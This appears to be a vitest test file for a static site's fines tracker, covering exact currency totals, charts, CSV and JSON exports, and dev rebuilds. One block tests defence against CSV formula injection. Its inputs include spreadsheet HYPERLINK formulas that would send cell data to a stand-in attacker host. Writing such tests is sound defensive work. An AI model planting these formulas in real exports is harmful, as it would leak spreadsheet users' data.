import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decimalAmount, formatAmount, type Fine } from '../../src/domain/fines.js';
import {
  byAuthority,
  byYear,
  chartPeriods,
  currencyOrder,
  currencyTotals,
  fineRecords,
  formatTotal,
  groupTotals,
  totalAmount,
  type Fined,
  type Total,
} from '../../src/domain/totals.js';
import { DevSession } from '../../src/dev/session.js';
import { axisScale } from '../../src/pages/fines-chart.js';
import { CSV_COLUMNS, csvField, csvText } from '../../src/pages/fines-data.js';
import {
  AUTHORITIES,
  BULLETIN,
  finesTableRows,
  item,
  makeSite,
  page,
  removeSite,
  run,
  type HtmlDocument,
} from '../helpers.js';

const FIXTURE = join(import.meta.dirname, '../fixtures/readers-b');

const fine = (cents: number | bigint, currency = 'CNY'): Fine => ({
  kind: 'exact',
  minor: BigInt(cents),
  exponent: 2,
  currency,
  display: '',
});
const fined = (
  url: string,
  date: string,
  authorities: string[],
  ...fines: Fine[]
): Fined & { url: string } => {
  const [year, month, day] = date.split('-').map(Number) as [number, number, number?];
  return { url, date: day ? { year, month, day } : { year, month }, authorities, fines };
};

/** Totals as plain data: `{ key: { CNY: [count, "decimal"] } }`. */
function plain(groups: Map<string, Map<string, Total>>) {
  return Object.fromEntries(
    [...groups].map(([key, totals]) => [
      key,
      Object.fromEntries([...totals].map(([c, t]) => [c, [t.count, totalAmount(t)]])),
    ]),
  );
}

describe('decimalAmount and formatTotal: exact at any size', () => {
  const cases: [bigint, string, string][] = [
    [0n, '0.00', '0'],
    [5n, '0.05', '0.05'],
    [30_000_000n, '300000.00', '300,000'],
    [1_674_000_000n, '16740000.00', '16.74 million'],
    [120_000_000_000n, '1200000000.00', '1.2 billion'],
    [125_050n, '1250.50', '1,250.50'],
    // Past 2^53 cents, where a number would round: still exact.
    [9_007_199_254_740_993n, '90071992547409.93', '90,071,992,547,409.93'],
    [100_000_000_000_000_000n, '1000000000000000.00', '1,000,000 billion'],
  ];
  it.each(cases)('%s cents', (cents, decimal, text) => {
    expect(decimalAmount(cents, 2)).toBe(decimal);
    expect(formatTotal({ count: 1, minor: cents, exponent: 2, unknown: 0 }, 'USD')).toBe(
      `USD ${text}`,
    );
  });
  it('writes a total in the same house style as a single fine', () => {
    for (const cents of [0, 1, 99, 100, 30_000_000, 1_674_000_000, 802_600_000_000, 123_456_789]) {
      const total = { count: 1, minor: BigInt(cents), exponent: 2, unknown: 0 };
      expect(formatTotal(total, 'CNY')).toBe(`RMB ${formatAmount(BigInt(cents), 2)}`);
    }
  });
});

describe('totals per currency, never across currencies', () => {
  const items = [
    fined('/items/b/', '2022-01-10', ['pboc'], fine(1_674_000_000), fine(5_000_000)),
    fined('/items/a/', '2022-01-10', ['cac', 'samr'], fine(50_000_000)),
    fined('/items/usd/', '2022-01-20', ['ftc'], fine(15_000_000_000, 'USD')),
    fined('/items/old/', '2019-07', [], fine(802_600_000_000)),
    fined('/items/none/', '2020-05-01', ['cac']),
  ];
  const records = fineRecords(items);

  it('lists every fine newest first, ties by address, then in the item order', () => {
    expect(records.map((r) => `${r.item.url}#${r.index}`)).toEqual([
      '/items/usd/#0',
      '/items/a/#0',
      '/items/b/#0',
      '/items/b/#1',
      '/items/old/#0',
    ]);
  });

  it('orders currencies by use, then by code', () => {
    expect(currencyOrder(records)).toEqual(['CNY', 'USD']);
    expect(
      currencyOrder(fineRecords([fined('/x/', '2022-01-01', [], fine(1, 'USD'), fine(1, 'EUR'))])),
    ).toEqual(['EUR', 'USD']);
  });

  const cases: [string, object][] = [
    ['overall', { '': { CNY: [4, '8043290000.00'], USD: [1, '150000000.00'] } }],
    [
      'by year',
      {
        '2019': { CNY: [1, '8026000000.00'] },
        '2022': { CNY: [3, '17290000.00'], USD: [1, '150000000.00'] },
      },
    ],
    [
      'by authority (a joint fine counts for each)',
      {
        '': { CNY: [1, '8026000000.00'] },
        cac: { CNY: [1, '500000.00'] },
        ftc: { USD: [1, '150000000.00'] },
        pboc: { CNY: [2, '16790000.00'] },
        samr: { CNY: [1, '500000.00'] },
      },
    ],
  ];
  it.each(cases)('%s', (name, expected) => {
    const groups =
      name === 'overall'
        ? new Map([['', currencyTotals(records)]])
        : groupTotals(records, name === 'by year' ? byYear : byAuthority);
    expect(plain(groups)).toEqual(expected);
  });

  it('keeps integer cents exact where floating point would not', () => {
    const many = Array.from({ length: 10 }, (_, i) => fined(`/i${i}/`, '2022-01-01', [], fine(10)));
    // 0.1 ten times is 0.9999999999999999 in floating point; ten times 10 cents is 1.00.
    expect(totalAmount(currencyTotals(fineRecords(many)).get('CNY')!)).toBe('1.00');
    const huge = [1, 2, 3].map((i) =>
      fined(`/h${i}/`, '2022-01-01', [], fine(Number.MAX_SAFE_INTEGER)),
    );
    expect(currencyTotals(fineRecords(huge)).get('CNY')!.minor).toBe(
      3n * BigInt(Number.MAX_SAFE_INTEGER),
    );
  });
});

describe('chartPeriods: years, or months when the span is short', () => {
  const at = (...dates: string[]) =>
    fineRecords(dates.map((d, i) => fined(`/${i}/`, d, [], fine(100))));
  const cases: [string, string[], string, string[]][] = [
    ['nothing', [], 'year', []],
    ['one month', ['2022-01-10'], 'month', ['2022-01']],
    [
      '23 months: months',
      ['2020-03-01', '2022-01'],
      'month',
      ['2020-03', '2020-04', '2021-12', '2022-01'],
    ],
    ['24 months: years', ['2020-02-01', '2022-01-31'], 'year', ['2020', '2021', '2022']],
    ['a gap is a zero bar', ['2015-06-01', '2018-01-01'], 'year', ['2015', '2016', '2017', '2018']],
  ];
  it.each(cases)('%s', (_, dates, unit, keys) => {
    const periods = chartPeriods(at(...dates));
    expect(periods.unit).toBe(unit);
    if (unit === 'month' && keys.length > 2) {
      expect(periods.keys.length).toBe(23);
      expect([...periods.keys.slice(0, 2), ...periods.keys.slice(-2)]).toEqual(keys);
    } else expect(periods.keys).toEqual(keys);
  });
});

describe('axisScale: round steps in a readable unit', () => {
  const cases: [bigint, string, number, number][] = [
    [0n, '', 1, 4],
    [5_000n, '', 20, 3],
    [1_704_000_000n, 'million', 5, 4],
    [1_822_850_000_000n, 'billion', 5, 4],
    [15_000_000_000n, 'million', 50, 3],
  ];
  it.each(cases)('%s cents', (cents, word, step, steps) => {
    expect(axisScale(cents, 2)).toMatchObject({ word, step, steps });
  });
});

describe('csvField (RFC 4180)', () => {
  const cases: [string, string][] = [
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    ['', ''],
  ];
  it.each(cases)('%j', (input, expected) => expect(csvField(input)).toBe(expected));
});

describe('csvText: a text cell a spreadsheet would run is made text (OWASP)', () => {
  const cases: [string, string][] = [
    ['Alpha Co.', 'Alpha Co.'],
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://evil.example/","click")',
      `"'=HYPERLINK(""http://evil.example/"",""click"")"`,
    ],
    ['+86 Mobile Ltd.', "'+86 Mobile Ltd."],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tTabbed', "'\tTabbed"],
    ['\rReturned', `"'\rReturned"`],
    ['a, =b', '"a, =b"'],
    ['Alpha = Beta', 'Alpha = Beta'],
    ['', ''],
  ];
  it.each(cases)('%j', (input, expected) => expect(csvText(input)).toBe(expected));
});

describe('fines.csv of a site whose parties and titles look like formulas', () => {
  let root: string;
  beforeAll(async () => {
    root = makeSite({
      'gazette.config.yaml': 'baseUrl: https://example.org/\n',
      'data/authorities.yaml': AUTHORITIES,
      'content/bulletins/2022-02.md': BULLETIN,
      'content/items/hyperlink.md': item({
        title: `'=HYPERLINK("http://evil.example/?leak="&A1,"click")'`,
        authority: 'cac',
        party: `'=HYPERLINK("http://evil.example/","click")'`,
        fine: '"RMB 300,000"',
      }),
      'content/items/plus.md': item({
        title: '"+1 fined"',
        date: '2022-01-11',
        party: '["@SUM(1,2)", "-3+4"]',
        fine: '"RMB 1,000"',
      }),
    });
    const result = await run('build', '--root', root);
    expect(result.stderr).toBe('');
  });
  afterAll(() => removeSite(root));

  it('prefixes every such text cell with an apostrophe, and leaves amounts numbers', () => {
    const text = readFileSync(join(root, 'dist/fines.csv'), 'utf8');
    const records = parse(text, { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    expect(records.map((r) => [r.parties, r.title, r.amount, r.currency])).toEqual([
      ["'@SUM(1,2); -3+4", "'+1 fined", '1000.00', 'CNY'],
      [
        `'=HYPERLINK("http://evil.example/","click")`,
        `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
        '300000.00',
        'CNY',
      ],
    ]);
    // No cell of any row starts a formula.
    for (const record of records)
      for (const [column, value] of Object.entries(record))
        expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
    // fines.json is data for programs, not a spreadsheet: it keeps the exact text.
    const json = JSON.parse(readFileSync(join(root, 'dist/fines.json'), 'utf8'));
    expect(json.fines[1].parties).toEqual(['=HYPERLINK("http://evil.example/","click")']);
  });
});

describe('the fines tracker of a site with known fines', () => {
  let out: string;
  let doc: HtmlDocument;
  const read = (path: string) => readFileSync(join(out, path), 'utf8');

  beforeAll(async () => {
    out = join(mkdtempSync(join(tmpdir(), 'gazette-fines-')), 'out');
    const result = await run('build', '--root', FIXTURE, '--no-cache', '--out', out);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    doc = page(out, 'fines/index.html');
  });
  afterAll(() => removeSite(join(out, '..')));

  /** A totals table as `{ row heading: [exact decimals or '' per currency column] }`. */
  function totals(id: string) {
    const table = doc.getElementById(id)!;
    const heads = [...table.querySelectorAll('thead th')].map((th) => th.textContent);
    const rows = [...table.querySelectorAll('tbody tr, tfoot tr')].map((tr) => [
      tr.querySelector('th')!.textContent,
      [...tr.querySelectorAll('td')].map(
        (td) => td.querySelector('data')?.getAttribute('value') ?? '',
      ),
    ]);
    return { heads, rows: Object.fromEntries(rows) };
  }

  it('adds up each currency exactly, by year', () => {
    expect(totals('fines-by-year')).toEqual({
      // One unit per currency on the page: RMB in full (its smallest fine is under a
      // million), EUR and USD in millions.
      heads: ['Year', 'Total (RMB)', 'Total (EUR million)', 'Total (USD million)'],
      rows: {
        '2022': ['17090000.00', '150000000.00', '150000000.00'],
        '2021': ['18228500000.00', '', ''],
        '2019': ['8026000000.00', '', ''],
        'All years': ['26271590000.00', '150000000.00', '150000000.00'],
      },
    });
  });

  it('adds up each currency exactly, by authority (a joint fine in each)', () => {
    expect(totals('fines-by-authority').rows).toEqual({
      CAC: ['8026500000.00', '', ''],
      CNIL: ['', '150000000.00', ''],
      FTC: ['', '', '150000000.00'],
      'None named': ['300000.00', '', ''],
      "Shanghai Branch of the People's Bank of China": ['16790000.00', '', ''],
      SAMR: ['18228500000.00', '', ''],
      'All authorities': ['26271590000.00', '150000000.00', '150000000.00'],
    });
  });

  it('lists every fine in an accessible table, its raw values to sort and filter by in table.json', () => {
    const table = doc.getElementById('fines-table')!;
    expect(table.querySelector('caption')!.textContent).toContain('Every fine');
    const heads = [...table.querySelectorAll('thead th')];
    expect(heads.map((th) => th.getAttribute('scope'))).toEqual(Array(5).fill('col'));
    expect(heads.map((th) => th.textContent)).toEqual([
      'Date',
      'Party',
      'Authority',
      'Amount',
      'Item',
    ]);
    expect(heads[0]!.getAttribute('aria-sort')).toBe('descending');
    expect(table.getAttribute('data-src')).toBe('../fines/table.json');
    const rows = [...table.querySelectorAll('tbody tr')];
    expect(rows).toHaveLength(8);
    const first = rows[0]!;
    // The short date, the whole one in its tooltip.
    const time = first.querySelector('time')!;
    expect(time.getAttribute('datetime')).toBe('2022-01');
    expect(time.textContent).toBe('Jan 2022');
    expect(time.getAttribute('title')).toBe('January 2022');
    const amount = first.querySelectorAll('td')[3]!;
    expect(amount.className).toBe('num fines-amount');
    expect(amount.textContent).toBe('RMB\u00a016,740,000');
    expect(amount.getAttribute('title')).toBe('RMB 16.74 million');
    expect(first.querySelector('td:last-child a')!.getAttribute('href')).toBe(
      '../items/bank-two-fines/',
    );
    // The same rows for the script, in the same order, with what it sorts and filters by.
    const json = finesTableRows(out);
    expect(json).toHaveLength(8);
    expect(json[0]).toMatchObject({
      dateSort: '2022-01-31',
      dateIso: '2022-01',
      dateText: 'Jan 2022',
      dateLong: 'January 2022',
      parties: first.querySelectorAll('td')[1]!.textContent,
      authorities: ['pboc-shanghai'],
      currency: 'CNY',
      kind: 'exact',
      amount: '16740000.00',
      url: 'items/bank-two-fines/',
    });
    const { authorities } = JSON.parse(read('fines/table.json')) as {
      authorities: Record<string, [string, string, string]>;
    };
    // Its label, its whole name (the same: it has no abbreviation), its page.
    expect(authorities['pboc-shanghai']).toEqual([
      "Shanghai Branch of the People's Bank of China",
      "Shanghai Branch of the People's Bank of China",
      'authorities/pboc-shanghai/',
    ]);
    const joint = json.findIndex((r) => r.authorities.join(' ') === 'cac samr');
    expect(rows[joint]!.querySelectorAll('td')[1]!.textContent).toBe('Shop "Best", Co., Ltd.');
    const none = json.findIndex((r) => r.authorities.length === 0);
    expect(rows[none]!.querySelectorAll('td')[3]!.textContent).toBe('RMB\u00a0300,000');
  });

  it('offers labelled filters, hidden until the script runs, and loads the script on this page only', () => {
    const form = doc.getElementById('fines-filter')!;
    expect(form.hasAttribute('hidden')).toBe(true);
    for (const control of form.querySelectorAll('select, input')) {
      expect(doc.querySelector(`label[for="${control.id}"]`)).not.toBeNull();
    }
    const authorities = [...form.querySelectorAll('#fines-authority option')].map((o) =>
      o.getAttribute('value'),
    );
    expect(authorities).toEqual(['', 'cnil', 'cac', 'us-ftc', '_', 'pboc-shanghai', 'samr']);
    const script = doc.querySelector('script[src$="assets/fines.js"]')!;
    expect(script.hasAttribute('defer')).toBe(true);
    expect(
      page(out, 'items/cnil-fine/index.html').querySelector('script[src$="assets/fines.js"]'),
    ).toBeNull();
    expect(readFileSync(join(out, 'assets/fines.js'), 'utf8')).toContain('replaceState');
  });

  it('draws one accessible SVG bar chart per currency, at build time, and again for a phone', () => {
    const charts = [...doc.querySelectorAll('.fines-chart-wide svg.fines-chart-svg')];
    expect(charts).toHaveLength(3);
    const narrow = [...doc.querySelectorAll('.fines-chart-narrow svg.fines-chart-svg')];
    expect(narrow).toHaveLength(3);
    // The phone's is drawn about as many units wide as a phone has pixels, its ids its own.
    expect(narrow[0]!.getAttribute('viewBox')).toBe('0 0 360 250');
    expect(narrow[0]!.getAttribute('aria-labelledby')).toBe(
      'fines-chart-cny-narrow-title fines-chart-cny-narrow-desc',
    );
    expect(doc.querySelectorAll('svg.fines-chart-svg')).toHaveLength(6);
    for (const svg of [...charts, ...narrow]) {
      expect(svg.getAttribute('role')).toBe('img');
      const [titleId, descId] = svg.getAttribute('aria-labelledby')!.split(' ');
      expect(svg.querySelector(`title#${titleId}`)!.textContent).toMatch(/^Fines in \w+ per year/);
      expect(svg.querySelector(`desc#${descId}`)!.textContent).toContain('Bar chart');
      // One bar per year from 2019 to 2022, the empty 2020 included.
      expect(svg.querySelectorAll('.chart-bars rect')).toHaveLength(4);
      const axes = [...svg.querySelectorAll('.chart-axis-title')].map((t) => t.textContent);
      expect(axes[0]).toBe('Year');
      expect(axes[1]).toMatch(/^Total fined \((RMB|EUR|USD) (million|billion)\)$/);
      expect(svg.querySelectorAll('.chart-grid text').length).toBeGreaterThan(2);
    }
    const rmb = charts[0]!;
    expect(rmb.querySelector('desc')!.textContent).toContain(
      'The highest is 2021: RMB\u00a018,228,500,000 in 2 fines.',
    );
    expect([...rmb.querySelectorAll('.chart-bars rect title')].map((t) => t.textContent)).toEqual([
      '2019: RMB\u00a08,026,000,000 (1 fine)',
      '2020: RMB 0 (0 fines)',
      '2021: RMB\u00a018,228,500,000 (2 fines)',
      '2022: RMB\u00a017,090,000 (3 fines)',
    ]);
  });

  it('writes the same fines as RFC 4180 CSV', () => {
    const text = read('fines.csv');
    // Every line ends with CRLF, and no LF stands alone.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const records = parse(text, { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    expect(Object.keys(records[0]!)).toEqual([...CSV_COLUMNS]);
    expect(records).toHaveLength(8);
    const joint = records.find((r) => r.authority_ids === 'cac; samr')!;
    expect(joint).toMatchObject({
      parties: 'Shop "Best", Co., Ltd.',
      title: 'Two Regulators Jointly Fine an Online "Best Price" Shop',
      amount: '500000.00',
      url: 'https://example.org/digest/items/joint-fine/',
    });
    const sum = (currency: string) =>
      decimalAmount(
        records
          .filter((r) => r.currency === currency)
          .reduce((n, r) => n + BigInt(r.amount!.replace('.', '')), 0n),
        2,
      );
    expect([sum('CNY'), sum('EUR'), sum('USD')]).toEqual([
      '26271590000.00',
      '150000000.00',
      '150000000.00',
    ]);
  });

  it('writes the same fines and totals as JSON', () => {
    const data = JSON.parse(read('fines.json'));
    expect(data.fines).toHaveLength(8);
    expect(data.currencies).toEqual(['CNY', 'EUR', 'USD']);
    expect(data.totals.byCurrency).toEqual([
      { currency: 'CNY', count: 6, amount: '26271590000.00', unknown: 0 },
      { currency: 'EUR', count: 1, amount: '150000000.00', unknown: 0 },
      { currency: 'USD', count: 1, amount: '150000000.00', unknown: 0 },
    ]);
    expect(data.totals.byYear.map((y: { year: number }) => y.year)).toEqual([2019, 2021, 2022]);
    expect(data.totals.byAuthority[0]).toEqual({
      authority: null,
      totals: [{ currency: 'CNY', count: 1, amount: '300000.00', unknown: 0 }],
    });
    expect(data.authorities.cnil).toEqual({
      name: "Commission nationale de l'informatique et des libertés",
      abbr: 'CNIL',
    });
    expect(data.fines[0]).toMatchObject({
      date: '2022-01',
      amount: '16740000.00',
      currency: 'CNY',
    });
  });

  it('is linked from every page and listed in the sitemap', () => {
    const nav = [...page(out, 'index.html').querySelectorAll('nav[aria-label="Site"] a')];
    expect(nav.map((a) => a.textContent)).toEqual(expect.arrayContaining(['Fines', 'Search']));
    expect(read('sitemap.xml')).toContain('<loc>https://example.org/digest/fines/</loc>');
  });
});

describe('under gazette dev, the tracker follows edits as a full build would', () => {
  let work: string;
  beforeAll(() => {
    work = mkdtempSync(join(tmpdir(), 'gazette-fines-dev-'));
    cpSync(FIXTURE, join(work, 'site'), { recursive: true });
  });
  afterAll(() => removeSite(work));

  const FILES = ['fines/index.html', 'fines.csv', 'fines.json', 'search/2022.json'];

  async function expectFullBuild(session: DevSession, name: string): Promise<void> {
    const out = join(work, name);
    expect((await run('build', '--root', join(work, 'site'), '--out', out)).code).toBe(0);
    const snapshot = session.snapshot();
    for (const file of FILES) {
      expect(String(snapshot.get(file)), file).toBe(readFileSync(join(out, file), 'utf8'));
    }
  }

  it('a new fine, a changed amount and a fine removed', async () => {
    const root = join(work, 'site');
    const session = new DevSession({ root });
    await session.start();
    const edit = async (file: string, from: string, to: string) => {
      const path = join(root, file);
      writeFileSync(path, readFileSync(path, 'utf8').replace(from, to));
      const update = await session.update([file]);
      expect(update.diagnostics).toEqual([]);
    };
    await edit('content/items/2022/minors-court.md', 'tags:', 'fine: RMB 12,345.67\ntags:');
    expect(String(session.get('fines.csv'))).toContain('12345.67');
    await expectFullBuild(session, 'one');
    await edit('content/items/2022/cnil-fine.md', 'EUR 150 million', 'EUR 90 million');
    expect(String(session.get('fines/index.html'))).toContain('EUR 90 million');
    await expectFullBuild(session, 'two');
    await edit('content/items/2022/ftc-fine.md', 'fine: USD 150 million\n', '');
    expect(String(session.get('fines.json'))).not.toContain('USD');
    await expectFullBuild(session, 'three');
  });
});
